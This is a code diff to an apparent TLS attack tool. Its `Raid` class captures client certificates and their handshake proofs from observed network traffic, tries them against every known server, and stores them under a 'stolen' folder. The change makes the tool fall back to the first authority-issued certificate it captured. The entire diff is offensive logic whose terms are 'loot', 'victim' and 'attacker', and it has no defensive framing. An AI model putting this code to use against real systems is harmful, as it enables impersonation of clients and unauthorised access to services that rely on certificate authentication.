@@ -63,9 +63,10 @@ class Server:
 class Raid:
     """Takes what is seen on the wire as it comes, and once a certificate came with its proof, tries it at every server.
 
-    At each server it uses what was seen there, or else the first certificate of all: some ask for one only under the
-    protection of TLS 1.3, or not in TLS at all. `way` leads to the servers, `source` says how the attacker came to see
-    the wire. What happens is reported, and the certificates are kept in `folder`/stolen.
+    At each server it uses what was seen there, or else the first certificate that an authority issued: some servers do
+    not ask in TLS, and a self-signed one is worth something only where it is known. `way` leads to the servers,
+    `source` says how the attacker came to see the wire. What happens is reported, and the certificates are kept in
+    `folder`/stolen.
     """
 
     def __init__(self, reporter: Reporter, folder: Path, source: str, way: Way, plan: Plan | None = None) -> None:
@@ -74,7 +75,8 @@ class Raid:
         self._source = source
         self._way = way
         self._plan = plan or Plan()
-        self._first: Capture | None = None
+        self._issued: Capture | None = None
+        """The first capture with a certificate that an authority issued."""
         self._servers: dict[str, Server] = {}
         self._reported: set[tuple[str, ...]] = set()
         self._tasks: set[asyncio.Task[None]] = set()
@@ -94,7 +96,8 @@ class Raid:
         if capture.certificate_verify is not None and server.capture is None:
             server.capture = capture
             server.recorded[TLS12] = capture.client_bytes
-            self._first = self._first or capture
+            if self._issued is None and not _is_self_signed(capture.chain[0]):
+                self._issued = capture
             self._keep(certificate)
         self._go_on()
 
@@ -121,18 +124,16 @@ class Raid:
 
         A server counts as seen when its TLS 1.2 was, which alone can show the certificate that is wanted there.
         """
-        if self._first is None:
-            return
         for address, server in self._servers.items():
+            capture = server.capture or self._issued
             for version in self._plan.versions:
-                if TLS12 in server.recorded and version in server.recorded and version not in server.tried:
+                seen = TLS12 in server.recorded and version in server.recorded
+                if capture and seen and version not in server.tried:
                     server.tried.add(version)
-                    self._start(self._try_moves(address, server, version))
+                    self._start(self._try_moves(address, server, version, capture))
 
-    async def _try_moves(self, address: str, server: Server, version: int) -> None:
+    async def _try_moves(self, address: str, server: Server, version: int, capture: Capture) -> None:
         """All moves at one server in one version, several at once; each is reported when its outcome is in."""
-        assert self._first
-        capture = server.capture or self._first
         loot = loot_from(capture, server.recorded, self._plan.own)
         target, victim = self._way(address), common_name(capture.chain[0])
 
